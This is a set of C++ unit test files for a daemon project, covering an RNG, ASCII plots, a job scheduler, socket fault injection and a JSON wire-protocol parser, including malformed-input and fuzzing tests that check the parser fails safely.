  EXPECT_NEAR(static_cast<double>(counts[2]) / counts[0], 3.0, 0.4);
}

TEST(Rng, WeightedIndexRejectsBadWeights) {
  Rng rng(1);
  EXPECT_THROW(rng.weighted_index({0.0, 0.0}), std::invalid_argument);
  EXPECT_THROW(rng.weighted_index({1.0, -0.5}), std::invalid_argument);
}

TEST(Rng, ForkProducesIndependentStreams) {
  Rng parent(99);
  Rng child_a = parent.fork(1);
  Rng child_b = parent.fork(2);
  int same = 0;
  for (int i = 0; i < 64; ++i) same += child_a.next() == child_b.next() ? 1 : 0;
  EXPECT_LT(same, 2);
}

TEST(Rng, ChanceExtremes) {
  Rng rng(3);
  for (int i = 0; i < 100; ++i) {
    EXPECT_FALSE(rng.chance(0.0));
    EXPECT_TRUE(rng.chance(1.0));
  }
}

}  // namespace
}  // namespace cvewb::util
