#include "util/ascii_plot.h"

#include <gtest/gtest.h>

namespace cvewb::util {
namespace {

TEST(AsciiPlot, RendersSeriesAndLegend) {
  Series s;
  s.name = "cdf";
  for (int i = 0; i <= 10; ++i) {
    s.x.push_back(i);
    s.y.push_back(i / 10.0);
  }
  PlotOptions options;
  options.y_unit_interval = true;
  options.x_label = "days";
  const std::string plot = render_lines({s}, options);
  EXPECT_NE(plot.find('*'), std::string::npos);
  EXPECT_NE(plot.find("cdf"), std::string::npos);
  EXPECT_NE(plot.find("[days]"), std::string::npos);
}

TEST(AsciiPlot, MultipleSeriesUseDistinctGlyphs) {
  Series a{"a", {0, 1}, {0, 1}};
  Series b{"b", {0, 1}, {1, 0}};
  const std::string plot = render_lines({a, b}, PlotOptions{});
  EXPECT_NE(plot.find('*'), std::string::npos);
  EXPECT_NE(plot.find('+'), std::string::npos);
}

TEST(AsciiPlot, DegenerateSeriesDoNotCrash) {
  Series s{"flat", {5, 5}, {1, 1}};
  EXPECT_FALSE(render_lines({s}, PlotOptions{}).empty());
  EXPECT_FALSE(render_lines({}, PlotOptions{}).empty());
}

TEST(AsciiPlot, BarsScaleToMax) {
  const std::string bars = render_bars({{"a", 10.0}, {"b", 5.0}}, 10);
  // 'a' gets the full width, 'b' half.
  EXPECT_NE(bars.find("##########"), std::string::npos);
  EXPECT_NE(bars.find("#####"), std::string::npos);
}

TEST(AsciiPlot, BarsHandleAllZero) {
  EXPECT_FALSE(render_bars({{"a", 0.0}}, 10).empty());
}

}  // namespace
}  // namespace cvewb::util
