// JobScheduler admission-control arithmetic, deadline/cancel semantics,
// and the daemon/* saturation metrics.
//
// Most tests run with workers = 0: admitted jobs queue but never start, so
// backlog accounting is exactly observable -- capacity K admits exactly K
// unit-weight jobs and rejects the K+1st, deterministically, no sleeps.
#include "daemon/job_scheduler.h"

#include <gtest/gtest.h>

#include <chrono>
#include <thread>

#include "obs/observability.h"

namespace cvewb::daemon {
namespace {

SchedulerConfig frozen_config(int capacity) {
  SchedulerConfig config;
  config.workers = 0;  // nothing dequeues: admission is exactly countable
  config.backlog_capacity = capacity;
  config.weight_scale_unit = 0.01;
  return config;
}

JobSpec unit_job() {
  JobSpec spec;
  spec.scale = 0.01;  // weight 1
  return spec;
}

TEST(Scheduler, ExactRejectionArithmetic) {
  const int kCapacity = 4;
  const int kExtra = 3;
  JobScheduler scheduler(frozen_config(kCapacity));

  int admitted = 0;
  int rejected = 0;
  for (int i = 0; i < kCapacity + kExtra; ++i) {
    const AdmitResult result = scheduler.submit(unit_job());
    if (result.admitted) {
      ++admitted;
      EXPECT_FALSE(result.job_id.empty());
    } else {
      ++rejected;
      EXPECT_EQ(result.reason, "overloaded");
      EXPECT_GT(result.retry_after.count(), 0);
      EXPECT_EQ(result.capacity, kCapacity);
      EXPECT_EQ(result.backlog_weight, kCapacity);  // full when rejected
    }
  }
  EXPECT_EQ(admitted, kCapacity);
  EXPECT_EQ(rejected, kExtra);

  const SchedulerStats stats = scheduler.stats();
  EXPECT_EQ(stats.submitted, static_cast<std::uint64_t>(kCapacity + kExtra));
  EXPECT_EQ(stats.rejected, static_cast<std::uint64_t>(kExtra));
  EXPECT_EQ(stats.queued, static_cast<std::size_t>(kCapacity));
  EXPECT_EQ(stats.backlog_weight, kCapacity);
}

TEST(Scheduler, WeightScalesWithEventScale) {
  JobScheduler scheduler(frozen_config(4));
  JobSpec heavy;
  heavy.scale = 0.04;  // weight 4: fills the whole backlog alone
  EXPECT_TRUE(scheduler.submit(heavy).admitted);
  const AdmitResult light = scheduler.submit(unit_job());
  EXPECT_FALSE(light.admitted);
  EXPECT_EQ(light.reason, "overloaded");
}

TEST(Scheduler, RetryAfterScalesWithQueuedWeight) {
  SchedulerConfig config = frozen_config(2);
  config.retry_after_per_weight = std::chrono::milliseconds(50);
  JobScheduler scheduler(config);
  ASSERT_TRUE(scheduler.submit(unit_job()).admitted);
  ASSERT_TRUE(scheduler.submit(unit_job()).admitted);
  const AdmitResult rejected = scheduler.submit(unit_job());
  ASSERT_FALSE(rejected.admitted);
  EXPECT_EQ(rejected.retry_after, std::chrono::milliseconds(100));  // 2 queued units x 50ms
}

TEST(Scheduler, DeadlineExpiresWhileQueued) {
  JobScheduler scheduler(frozen_config(4));
  JobSpec spec = unit_job();
  spec.deadline = std::chrono::milliseconds(1);
  const AdmitResult admitted = scheduler.submit(spec);
  ASSERT_TRUE(admitted.admitted);
  std::this_thread::sleep_for(std::chrono::milliseconds(10));

  const auto status = scheduler.query(admitted.job_id);
  ASSERT_TRUE(status.has_value());
  EXPECT_EQ(status->state, JobState::kExpired);
  EXPECT_EQ(status->message, "deadline expired while queued");
  // Expiry released the backlog: the next submission is admitted.
  EXPECT_TRUE(scheduler.submit(unit_job()).admitted);
  EXPECT_EQ(scheduler.stats().expired, 1u);
}

TEST(Scheduler, CancelQueuedJobReleasesBacklog) {
  JobScheduler scheduler(frozen_config(1));
  const AdmitResult admitted = scheduler.submit(unit_job());
  ASSERT_TRUE(admitted.admitted);
  ASSERT_FALSE(scheduler.submit(unit_job()).admitted);  // full

  EXPECT_TRUE(scheduler.cancel(admitted.job_id));
  EXPECT_FALSE(scheduler.cancel(admitted.job_id));  // already terminal
  EXPECT_FALSE(scheduler.cancel("j999"));           // unknown

  const auto status = scheduler.query(admitted.job_id);
  ASSERT_TRUE(status.has_value());
  EXPECT_EQ(status->state, JobState::kCancelled);
  EXPECT_TRUE(scheduler.submit(unit_job()).admitted);  // weight released
}

TEST(Scheduler, CancelOwnerSkipsDetachedJobs) {
  JobScheduler scheduler(frozen_config(8));
  JobSpec owned = unit_job();
  owned.owner = 42;
  JobSpec detached = owned;
  detached.detach = true;
  JobSpec other = unit_job();
  other.owner = 43;

  const auto a = scheduler.submit(owned);
  const auto b = scheduler.submit(detached);
  const auto c = scheduler.submit(other);
  ASSERT_TRUE(a.admitted && b.admitted && c.admitted);

  EXPECT_EQ(scheduler.cancel_owner(42), 1u);
  EXPECT_EQ(scheduler.query(a.job_id)->state, JobState::kCancelled);
  EXPECT_EQ(scheduler.query(b.job_id)->state, JobState::kQueued);  // detached survives
  EXPECT_EQ(scheduler.query(c.job_id)->state, JobState::kQueued);  // other owner survives
}

TEST(Scheduler, DrainCancelsQueueAndRejectsNewWork) {
  JobScheduler scheduler(frozen_config(8));
  const auto a = scheduler.submit(unit_job());
  const auto b = scheduler.submit(unit_job());
  ASSERT_TRUE(a.admitted && b.admitted);

  scheduler.drain();
  EXPECT_TRUE(scheduler.draining());
  EXPECT_EQ(scheduler.query(a.job_id)->state, JobState::kCancelled);
  EXPECT_EQ(scheduler.query(a.job_id)->message, "daemon draining");
  EXPECT_EQ(scheduler.query(b.job_id)->state, JobState::kCancelled);

  const AdmitResult late = scheduler.submit(unit_job());
  EXPECT_FALSE(late.admitted);
  EXPECT_EQ(late.reason, "draining");
  scheduler.drain();  // idempotent
}

TEST(Scheduler, QueryUnknownJobIsNullopt) {
  JobScheduler scheduler(frozen_config(1));
  EXPECT_FALSE(scheduler.query("j1").has_value());
}

// Satellite: the saturation counters the ISSUE names must be nonzero in a
// snapshot taken after overload + a queue-expired deadline.
TEST(Scheduler, SaturationMetricsAreExported) {
  obs::Observability observability;
  SchedulerConfig config = frozen_config(2);
  JobScheduler scheduler(config, &observability);

  ASSERT_TRUE(scheduler.submit(unit_job()).admitted);
  JobSpec doomed = unit_job();
  doomed.deadline = std::chrono::milliseconds(1);
  const auto expired = scheduler.submit(doomed);
  ASSERT_TRUE(expired.admitted);
  ASSERT_FALSE(scheduler.submit(unit_job()).admitted);  // overload
  ASSERT_FALSE(scheduler.submit(unit_job()).admitted);

  std::this_thread::sleep_for(std::chrono::milliseconds(10));
  ASSERT_EQ(scheduler.query(expired.job_id)->state, JobState::kExpired);

  const obs::MetricsSnapshot snapshot = observability.metrics.snapshot();
  EXPECT_EQ(snapshot.counters.at("daemon/jobs_submitted"), 4u);
  EXPECT_EQ(snapshot.counters.at("daemon/rejected_total"), 2u);
  EXPECT_EQ(snapshot.counters.at("daemon/deadline_expired_total"), 1u);
  const auto backlog = snapshot.gauges.at("daemon/backlog_depth");
  EXPECT_EQ(backlog.max, 2);    // both admissions counted
  EXPECT_EQ(backlog.value, 1);  // expiry released one unit
}

// One real worker end to end: a tiny study completes with a digest and a
// summary, and its latency histograms are populated.
TEST(Scheduler, RealWorkerCompletesStudy) {
  obs::Observability observability;
  SchedulerConfig config;
  config.workers = 1;
  config.backlog_capacity = 4;
  JobScheduler scheduler(config, &observability);

  JobSpec spec;
  spec.seed = 7;
  spec.scale = 0.005;
  const AdmitResult admitted = scheduler.submit(spec);
  ASSERT_TRUE(admitted.admitted);

  const auto give_up = std::chrono::steady_clock::now() + std::chrono::seconds(60);
  std::optional<JobStatus> status;
  for (;;) {
    status = scheduler.query(admitted.job_id);
    ASSERT_TRUE(status.has_value());
    if (status->state != JobState::kQueued && status->state != JobState::kRunning) break;
    ASSERT_LT(std::chrono::steady_clock::now(), give_up) << "study never finished";
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  ASSERT_EQ(status->state, JobState::kComplete) << status->message;
  EXPECT_EQ(status->digest.size(), 64u);  // hex SHA-256
  const util::Json* sessions = status->summary.find("sessions");
  ASSERT_NE(sessions, nullptr);
  EXPECT_GT(sessions->as_int64(), 0);

  const obs::MetricsSnapshot snapshot = observability.metrics.snapshot();
  EXPECT_EQ(snapshot.counters.at("daemon/jobs_completed"), 1u);
  EXPECT_EQ(snapshot.histograms.at("daemon/job_run_us").count, 1u);
  EXPECT_EQ(snapshot.histograms.at("daemon/job_wait_us").count, 1u);
}

// Running jobs cancel cooperatively: the worker picks the job up, the
// cancel fires its token, and the study unwinds to a terminal cancelled
// state -- the zero-leaked-jobs guarantee in miniature.
TEST(Scheduler, RunningJobCancelsCooperatively) {
  SchedulerConfig config;
  config.workers = 1;
  config.backlog_capacity = 8;  // scale 0.05 weighs 5 units
  JobScheduler scheduler(config);

  JobSpec spec;
  spec.seed = 7;
  spec.scale = 0.05;  // big enough to still be running when we cancel
  const AdmitResult admitted = scheduler.submit(spec);
  ASSERT_TRUE(admitted.admitted);
  // Cancel as soon as it leaves the queue (or immediately, if it is
  // somehow still queued -- both paths must converge to kCancelled).
  const auto give_up = std::chrono::steady_clock::now() + std::chrono::seconds(60);
  while (scheduler.query(admitted.job_id)->state == JobState::kQueued) {
    ASSERT_LT(std::chrono::steady_clock::now(), give_up);
    std::this_thread::sleep_for(std::chrono::milliseconds(1));
  }
  scheduler.cancel(admitted.job_id);
  std::optional<JobStatus> status;
  for (;;) {
    status = scheduler.query(admitted.job_id);
    if (status->state != JobState::kRunning) break;
    ASSERT_LT(std::chrono::steady_clock::now(), give_up) << "cancel never landed";
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  // A fast machine may complete the study before the cancel lands; both
  // terminal states are legitimate, a leaked running job is not.
  EXPECT_TRUE(status->state == JobState::kCancelled || status->state == JobState::kComplete);
  EXPECT_EQ(scheduler.stats().running, 0u);
}

}  // namespace
}  // namespace cvewb::daemon
