// The socket fault layer's determinism contract: what a plan injects for
// operation N is a pure function of (plan, op class, N) -- independent of
// timing, interleaving, or how often you ask.
#include "daemon/socket_fault.h"

#include <gtest/gtest.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstring>

namespace cvewb::daemon {
namespace {

TEST(SocketFault, DefaultPlanInjectsNothing) {
  const SocketFaultPlan plan;
  EXPECT_FALSE(plan.any());
  for (std::uint64_t i = 0; i < 100; ++i) {
    const FaultDecision read = SocketIo::plan_decision(plan, SocketIo::kReadOp, i);
    const FaultDecision write = SocketIo::plan_decision(plan, SocketIo::kWriteOp, i);
    EXPECT_FALSE(read.reset || read.stall || read.short_cap != 0);
    EXPECT_FALSE(write.reset || write.stall || write.short_cap != 0);
  }
}

TEST(SocketFault, DecisionsAreReproducible) {
  SocketFaultPlan plan;
  plan.seed = 0xfeed;
  plan.short_read_rate = 0.3;
  plan.short_write_rate = 0.2;
  plan.stall_rate = 0.1;
  plan.reset_rate = 0.05;
  for (std::uint64_t i = 0; i < 500; ++i) {
    const FaultDecision first = SocketIo::plan_decision(plan, SocketIo::kReadOp, i);
    const FaultDecision again = SocketIo::plan_decision(plan, SocketIo::kReadOp, i);
    EXPECT_EQ(first.reset, again.reset) << i;
    EXPECT_EQ(first.stall, again.stall) << i;
    EXPECT_EQ(first.short_cap, again.short_cap) << i;
  }
}

TEST(SocketFault, ReadAndWriteSchedulesAreIndependent) {
  SocketFaultPlan plan;
  plan.seed = 0xfeed;
  plan.short_read_rate = 0.5;
  plan.short_write_rate = 0.5;
  int diverged = 0;
  for (std::uint64_t i = 0; i < 200; ++i) {
    const FaultDecision read = SocketIo::plan_decision(plan, SocketIo::kReadOp, i);
    const FaultDecision write = SocketIo::plan_decision(plan, SocketIo::kWriteOp, i);
    if (read.short_cap != write.short_cap) ++diverged;
  }
  // Distinct op classes draw from distinct streams; identical schedules
  // would mean the class is being ignored in the seed derivation.
  EXPECT_GT(diverged, 0);
}

TEST(SocketFault, CertainRatesAlwaysFireAndCapsAreBounded) {
  SocketFaultPlan resets;
  resets.reset_rate = 1.0;
  SocketFaultPlan shorts;
  shorts.short_read_rate = 1.0;
  for (std::uint64_t i = 0; i < 100; ++i) {
    EXPECT_TRUE(SocketIo::plan_decision(resets, SocketIo::kReadOp, i).reset);
    const FaultDecision decision = SocketIo::plan_decision(shorts, SocketIo::kReadOp, i);
    EXPECT_GE(decision.short_cap, 1u);
    EXPECT_LE(decision.short_cap, 7u);
  }
}

TEST(SocketFault, ShimmedRecvHonoursShortCapsOnRealSockets) {
  int fds[2];
  ASSERT_EQ(::socketpair(AF_UNIX, SOCK_STREAM, 0, fds), 0);
  SocketFaultPlan plan;
  plan.seed = 3;
  plan.short_read_rate = 1.0;
  SocketIo io(plan);

  const char payload[64] = "short reads must fragment but never lose bytes -- framing test";
  ASSERT_EQ(::send(fds[1], payload, sizeof payload, 0), static_cast<ssize_t>(sizeof payload));

  std::string received;
  char buf[64];
  while (received.size() < sizeof payload) {
    const IoResult result = io.recv_some(fds[0], buf, sizeof buf);
    ASSERT_EQ(result.status, IoStatus::kOk);
    ASSERT_GE(result.bytes, 1u);
    ASSERT_LE(result.bytes, 7u);  // every read truncated to the injected cap
    received.append(buf, result.bytes);
  }
  EXPECT_EQ(std::memcmp(received.data(), payload, sizeof payload), 0);

  const SocketFaultStats stats = io.stats();
  EXPECT_GE(stats.reads, sizeof(payload) / 7);  // 64 bytes at <=7 per read
  EXPECT_GE(stats.injected_short_reads, sizeof(payload) / 7);
  ::close(fds[0]);
  ::close(fds[1]);
}

TEST(SocketFault, InjectedResetNeverTouchesTheSocket) {
  int fds[2];
  ASSERT_EQ(::socketpair(AF_UNIX, SOCK_STREAM, 0, fds), 0);
  SocketFaultPlan plan;
  plan.reset_rate = 1.0;
  SocketIo io(plan);

  ASSERT_EQ(::send(fds[1], "x", 1, 0), 1);
  char buf[8];
  EXPECT_EQ(io.recv_some(fds[0], buf, sizeof buf).status, IoStatus::kReset);
  // The byte is still in the kernel buffer: the reset was injected before
  // the real recv, exactly as a wire-level reset would preempt delivery.
  EXPECT_EQ(::recv(fds[0], buf, sizeof buf, MSG_DONTWAIT), 1);
  EXPECT_EQ(io.stats().injected_resets, 1u);
  ::close(fds[0]);
  ::close(fds[1]);
}

}  // namespace
}  // namespace cvewb::daemon
