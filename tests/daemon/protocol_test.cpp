// Wire-protocol validation: every malformed, out-of-range, or oversized
// request must come back as a structured error reply, never an exception
// or a silently-defaulted field.
#include "daemon/protocol.h"

#include <gtest/gtest.h>

#include <iterator>
#include <string>

#include "util/rng.h"

namespace cvewb::daemon {
namespace {

std::string error_code(const ParsedRequest& parsed) {
  const util::Json* error = parsed.error_reply.find("error");
  return error == nullptr ? std::string() : error->as_string();
}

TEST(Protocol, PingParses) {
  const auto parsed = parse_request(R"({"op":"ping"})", ProtocolLimits{});
  ASSERT_TRUE(parsed.request.has_value());
  EXPECT_EQ(parsed.request->op, RequestOp::kPing);
}

TEST(Protocol, SubmitParsesAllFields) {
  const auto parsed = parse_request(
      R"({"op":"submit","seed":42,"scale":0.25,"threads":4,"deadline_ms":1500,"detach":true})",
      ProtocolLimits{});
  ASSERT_TRUE(parsed.request.has_value());
  const Request& request = *parsed.request;
  EXPECT_EQ(request.op, RequestOp::kSubmit);
  EXPECT_EQ(request.seed, 42u);
  EXPECT_DOUBLE_EQ(request.scale, 0.25);
  EXPECT_EQ(request.threads, 4);
  EXPECT_EQ(request.deadline_ms, 1500);
  EXPECT_TRUE(request.detach);
}

TEST(Protocol, SubmitDefaults) {
  const auto parsed = parse_request(R"({"op":"submit"})", ProtocolLimits{});
  ASSERT_TRUE(parsed.request.has_value());
  EXPECT_EQ(parsed.request->seed, 7u);
  EXPECT_DOUBLE_EQ(parsed.request->scale, 0.01);
  EXPECT_EQ(parsed.request->threads, 1);
  EXPECT_EQ(parsed.request->deadline_ms, 0);
  EXPECT_FALSE(parsed.request->detach);
}

TEST(Protocol, GarbageIsParseError) {
  const auto parsed = parse_request("not json at all", ProtocolLimits{});
  EXPECT_FALSE(parsed.request.has_value());
  EXPECT_EQ(error_code(parsed), "parse_error");
}

TEST(Protocol, NonObjectAndMissingOpAreBadRequests) {
  EXPECT_EQ(error_code(parse_request("[1,2,3]", ProtocolLimits{})), "bad_request");
  EXPECT_EQ(error_code(parse_request(R"({"seed":1})", ProtocolLimits{})), "bad_request");
  EXPECT_EQ(error_code(parse_request(R"({"op":17})", ProtocolLimits{})), "bad_request");
  EXPECT_EQ(error_code(parse_request(R"({"op":"reboot"})", ProtocolLimits{})), "bad_request");
}

TEST(Protocol, OutOfRangeFieldsAreRejected) {
  ProtocolLimits limits;
  limits.max_scale = 0.5;
  limits.max_threads = 8;
  limits.max_deadline_ms = 10'000;
  const char* cases[] = {
      R"({"op":"submit","seed":-1})",
      R"({"op":"submit","seed":1.5})",
      R"({"op":"submit","scale":0})",
      R"({"op":"submit","scale":0.75})",
      R"({"op":"submit","scale":"big"})",
      R"({"op":"submit","threads":0})",
      R"({"op":"submit","threads":9})",
      R"({"op":"submit","deadline_ms":-5})",
      R"({"op":"submit","deadline_ms":20000})",
      R"({"op":"submit","detach":"yes"})",
  };
  for (const char* line : cases) {
    const auto parsed = parse_request(line, limits);
    EXPECT_FALSE(parsed.request.has_value()) << line;
    EXPECT_EQ(error_code(parsed), "bad_request") << line;
  }
  // The boundary values themselves are admitted.
  EXPECT_TRUE(parse_request(R"({"op":"submit","scale":0.5,"threads":8,"deadline_ms":10000})",
                            limits)
                  .request.has_value());
}

TEST(Protocol, QueryAndCancelRequireBoundedJobId) {
  const auto query = parse_request(R"({"op":"query","job":"j12"})", ProtocolLimits{});
  ASSERT_TRUE(query.request.has_value());
  EXPECT_EQ(query.request->op, RequestOp::kQuery);
  EXPECT_EQ(query.request->job_id, "j12");

  EXPECT_EQ(error_code(parse_request(R"({"op":"query"})", ProtocolLimits{})), "bad_request");
  EXPECT_EQ(error_code(parse_request(R"({"op":"cancel","job":""})", ProtocolLimits{})),
            "bad_request");
  const std::string long_id(65, 'x');
  EXPECT_EQ(error_code(parse_request(R"({"op":"cancel","job":")" + long_id + R"("})",
                                     ProtocolLimits{})),
            "bad_request");
}

TEST(Protocol, DeeplyNestedFrameIsAParseErrorNotAStackOverflow) {
  // A hostile client can mail kilobytes of '[' in one frame; the JSON
  // parser's recursion cap must turn that into a structured parse_error
  // (the daemon stays up) instead of exhausting the event-loop stack.
  std::string frame(50'000, '[');
  const auto parsed = parse_request(frame, ProtocolLimits{});
  EXPECT_FALSE(parsed.request.has_value());
  EXPECT_EQ(error_code(parsed), "parse_error");

  std::string objects;
  for (int i = 0; i < 50'000; ++i) objects += R"({"op":)";
  const auto parsed_objects = parse_request(objects, ProtocolLimits{});
  EXPECT_FALSE(parsed_objects.request.has_value());
  EXPECT_EQ(error_code(parsed_objects), "parse_error");
}

TEST(Protocol, StoreQueryParsesAllPredicates) {
  const auto parsed = parse_request(
      R"({"op":"store_query","table":"events","cve":"CVE-2021-44228",)"
      R"("begin":"2021-12-10","end":"2021-12-17","src":"203.0.113.9",)"
      R"("sid":21003,"run":"abc123","limit":100,"mode":"brute"})",
      ProtocolLimits{});
  ASSERT_TRUE(parsed.request.has_value());
  const Request& request = *parsed.request;
  EXPECT_EQ(request.op, RequestOp::kStoreQuery);
  EXPECT_EQ(request.store_query.table, store::Table::kEvents);
  ASSERT_TRUE(request.store_query.cve.has_value());
  EXPECT_EQ(*request.store_query.cve, "CVE-2021-44228");
  ASSERT_TRUE(request.store_query.run.has_value());
  EXPECT_EQ(*request.store_query.run, "abc123");
  ASSERT_TRUE(request.store_query.time_begin.has_value());
  ASSERT_TRUE(request.store_query.time_end.has_value());
  EXPECT_LT(*request.store_query.time_begin, *request.store_query.time_end);
  ASSERT_TRUE(request.store_query.src.has_value());
  EXPECT_EQ(*request.store_query.src, 0xCB007109u);  // 203.0.113.9
  ASSERT_TRUE(request.store_query.sid.has_value());
  EXPECT_EQ(*request.store_query.sid, 21003);
  EXPECT_EQ(request.store_query.limit, 100u);
  EXPECT_TRUE(request.store_brute);
}

TEST(Protocol, StoreQueryDefaultsAndStat) {
  const auto parsed = parse_request(R"({"op":"store_query"})", ProtocolLimits{});
  ASSERT_TRUE(parsed.request.has_value());
  EXPECT_EQ(parsed.request->store_query.table, store::Table::kSessions);
  EXPECT_FALSE(parsed.request->store_query.has_predicate());
  EXPECT_EQ(parsed.request->store_query.limit, 64u);
  EXPECT_FALSE(parsed.request->store_brute);

  const auto stat = parse_request(R"({"op":"store_stat"})", ProtocolLimits{});
  ASSERT_TRUE(stat.request.has_value());
  EXPECT_EQ(stat.request->op, RequestOp::kStoreStat);
}

TEST(Protocol, StoreQueryRejectsMalformedPredicates) {
  ProtocolLimits limits;
  limits.max_store_rows = 200;
  const char* cases[] = {
      R"({"op":"store_query","table":"nonsense"})",
      R"({"op":"store_query","cve":""})",
      R"({"op":"store_query","begin":"not-a-date"})",
      R"({"op":"store_query","begin":"2021-12-17","end":"2021-12-10"})",
      R"({"op":"store_query","src":"299.1.2.3"})",
      R"({"op":"store_query","src":-4})",
      R"({"op":"store_query","sid":3000000000})",
      R"({"op":"store_query","limit":-1})",
      R"({"op":"store_query","limit":201})",
      R"({"op":"store_query","mode":"psychic"})",
  };
  for (const char* line : cases) {
    const auto parsed = parse_request(line, limits);
    EXPECT_FALSE(parsed.request.has_value()) << line;
    EXPECT_EQ(error_code(parsed), "bad_request") << line;
  }
}

TEST(Protocol, HugeIntegerValuedDoublesAreBadRequestsNotUndefinedBehavior) {
  // JSON numbers like 1e300 are integer-valued doubles far outside
  // int64; casting them is UB, so every integer field must reject them
  // with a structured bad_request instead of silently clamping.  Runs
  // under UBSan, so a regression here is a build failure, not a flake.
  const char* cases[] = {
      R"({"op":"store_query","limit":1e300})",
      R"({"op":"store_query","limit":-1e300})",
      R"({"op":"store_query","sid":1e300})",
      R"({"op":"store_query","src":1e300})",
      R"({"op":"store_query","begin":1e300})",
      R"({"op":"store_query","end":-1e300})",
      R"({"op":"submit","seed":1e300})",
      R"({"op":"submit","deadline_ms":1e300})",
      R"({"op":"submit","threads":9.3e18})",
  };
  for (const char* line : cases) {
    const auto parsed = parse_request(line, ProtocolLimits{});
    EXPECT_FALSE(parsed.request.has_value()) << line;
    EXPECT_EQ(error_code(parsed), "bad_request") << line;
  }
  // 2^63 is exactly on the boundary: the first unrepresentable value.
  EXPECT_EQ(error_code(parse_request(R"({"op":"store_query","begin":9223372036854775808})",
                                     ProtocolLimits{})),
            "bad_request");
  // Large but representable integer-valued doubles still parse.
  const auto ok = parse_request(R"({"op":"store_query","begin":4e18})", ProtocolLimits{});
  ASSERT_TRUE(ok.request.has_value());
  EXPECT_EQ(*ok.request->store_query.time_begin, 4'000'000'000'000'000'000ll);
}

TEST(Protocol, RunKeyMustBeLowercaseHex) {
  for (const char* bad : {R"({"op":"store_query","run":"RUN-11"})",
                          R"({"op":"store_query","run":"xyz"})",
                          R"({"op":"store_query","run":"Abc123"})",
                          R"({"op":"store_query","run":"abc 123"})",
                          R"({"op":"store_plan","run":"0x1234"})"}) {
    const auto parsed = parse_request(bad, ProtocolLimits{});
    EXPECT_FALSE(parsed.request.has_value()) << bad;
    EXPECT_EQ(error_code(parsed), "bad_request") << bad;
  }
  const auto good =
      parse_request(R"({"op":"store_query","run":"00ffab12"})", ProtocolLimits{});
  ASSERT_TRUE(good.request.has_value());
  EXPECT_EQ(*good.request->store_query.run, "00ffab12");
}

TEST(Protocol, StorePlanSharesTheStoreQueryGrammar) {
  const auto parsed = parse_request(
      R"({"op":"store_plan","table":"events","cve":"CVE-2021-44228",)"
      R"("begin":"2021-12-10","end":"2021-12-17","sid":21003})",
      ProtocolLimits{});
  ASSERT_TRUE(parsed.request.has_value());
  EXPECT_EQ(parsed.request->op, RequestOp::kStorePlan);
  EXPECT_EQ(parsed.request->store_query.table, store::Table::kEvents);
  EXPECT_EQ(*parsed.request->store_query.cve, "CVE-2021-44228");
  EXPECT_EQ(*parsed.request->store_query.sid, 21003);
  // And the same rejections.
  EXPECT_EQ(error_code(parse_request(R"({"op":"store_plan","table":"nonsense"})",
                                     ProtocolLimits{})),
            "bad_request");
  EXPECT_EQ(error_code(parse_request(R"({"op":"store_plan","limit":1e300})",
                                     ProtocolLimits{})),
            "bad_request");
}

TEST(Protocol, MutatedFramesNeverCrashAndAlwaysAnswerStructurally) {
  // Byte-level fuzzing of valid frames: whatever the mutation does, the
  // parser must return either a validated request or a structured error
  // reply carrying an "error" code -- no exception, no UB, no third state.
  const std::string seeds[] = {
      R"({"op":"submit","seed":42,"scale":0.25,"threads":4,"deadline_ms":1500})",
      R"({"op":"store_query","table":"events","cve":"CVE-2021-44228",)"
      R"("begin":"2021-12-10","end":"2021-12-17","src":"203.0.113.9",)"
      R"("sid":21003,"run":"abc123","limit":100,"mode":"brute"})",
      R"({"op":"store_plan","table":"sessions","sid":7,"src":16909060})",
      R"({"op":"query","job":"j1"})",
  };
  util::Rng rng(0xF82);
  for (int iteration = 0; iteration < 4000; ++iteration) {
    std::string frame = seeds[rng.uniform_u64(std::size(seeds))];
    const std::size_t mutations = 1 + rng.uniform_u64(4);
    for (std::size_t m = 0; m < mutations; ++m) {
      const std::size_t at = rng.uniform_u64(frame.size());
      const char c = static_cast<char>(rng.uniform_u64(256));
      switch (rng.uniform_u64(3)) {
        case 0:  // flip
          frame[at] = c;
          break;
        case 1:  // drop
          frame = frame.substr(0, at) + frame.substr(at + 1);
          break;
        default:  // insert
          frame = frame.substr(0, at) + c + frame.substr(at);
          break;
      }
      if (frame.empty()) frame.push_back('{');
    }
    const auto parsed = parse_request(frame, ProtocolLimits{});
    if (!parsed.request.has_value()) {
      const util::Json* error = parsed.error_reply.find("error");
      ASSERT_NE(error, nullptr) << frame;
      EXPECT_FALSE(error->as_string().empty()) << frame;
      // The reply must itself survive encoding.
      EXPECT_FALSE(encode_frame(parsed.error_reply).empty());
    }
  }
}

TEST(Protocol, ErrorReplyAndFrameShape) {
  const util::Json reply = error_reply("overloaded", "backlog full");
  const util::Json* ok = reply.find("ok");
  ASSERT_NE(ok, nullptr);
  EXPECT_FALSE(ok->as_bool());
  EXPECT_EQ(reply.find("error")->as_string(), "overloaded");
  EXPECT_EQ(reply.find("detail")->as_string(), "backlog full");

  const std::string frame = encode_frame(reply);
  ASSERT_FALSE(frame.empty());
  EXPECT_EQ(frame.back(), '\n');
  // Exactly one newline: the frame never spans or splits protocol lines.
  EXPECT_EQ(frame.find('\n'), frame.size() - 1);
}

}  // namespace
}  // namespace cvewb::daemon
