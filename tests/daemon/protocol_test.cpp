// Wire-protocol validation: every malformed, out-of-range, or oversized
// request must come back as a structured error reply, never an exception
// or a silently-defaulted field.
#include "daemon/protocol.h"

#include <gtest/gtest.h>

namespace cvewb::daemon {
namespace {

std::string error_code(const ParsedRequest& parsed) {
  const util::Json* error = parsed.error_reply.find("error");
  return error == nullptr ? std::string() : error->as_string();
}

TEST(Protocol, PingParses) {
  const auto parsed = parse_request(R"({"op":"ping"})", ProtocolLimits{});
  ASSERT_TRUE(parsed.request.has_value());
  EXPECT_EQ(parsed.request->op, RequestOp::kPing);
}

TEST(Protocol, SubmitParsesAllFields) {
  const auto parsed = parse_request(
      R"({"op":"submit","seed":42,"scale":0.25,"threads":4,"deadline_ms":1500,"detach":true})",
      ProtocolLimits{});
  ASSERT_TRUE(parsed.request.has_value());
  const Request& request = *parsed.request;
  EXPECT_EQ(request.op, RequestOp::kSubmit);
  EXPECT_EQ(request.seed, 42u);
  EXPECT_DOUBLE_EQ(request.scale, 0.25);
  EXPECT_EQ(request.threads, 4);
  EXPECT_EQ(request.deadline_ms, 1500);
  EXPECT_TRUE(request.detach);
}

TEST(Protocol, SubmitDefaults) {
